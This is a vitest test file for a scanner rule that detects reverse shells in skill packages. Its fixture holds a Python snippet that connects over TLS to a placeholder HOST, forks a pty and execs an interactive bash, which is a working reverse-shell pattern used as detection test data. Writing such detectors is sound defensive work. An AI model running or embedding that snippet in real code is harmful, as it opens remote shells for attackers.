import { expect, it } from 'vitest'
import { buildSkillView } from '../build-skill-view.ts'
import { readScanFile } from '../read-scan-file.ts'
import { reverseShell } from './reverse-shell.ts'

function severities(path: string, text: string): readonly string[] {
  const file = readScanFile({ path, bytes: new TextEncoder().encode(text) })
  const skill = buildSkillView({ name: 'tables', files: [file], paths: [path] })
  return [...reverseShell.check(skill)].map(({ severity }) => severity ?? 'critical')
}

const bridge = (program: string): string =>
  `raw = sock.create_connection((HOST, 8443))\nconn = ctx.wrap_socket(raw)\npid, fd = pty.fork()\nif pid == 0:\n    os.execvp(${program})\n`

// WUN-103: a terminal of its own between the shell and the connection makes no other thing of it.
it('is one through a terminal that it opens for itself', () => {
  expect(severities('a.py', bridge("'/bin/bash', ['bash', '-i']"))).toContain('critical')
  expect(severities('a.py', bridge("'tables', ['tables', 'serve']"))).toEqual([])
  expect(
    severities('a.py', "pid, fd = pty.fork()\nif pid == 0:\n    os.execvp('/bin/bash', ['bash', '-i'])\n"),
  ).toEqual([])
})
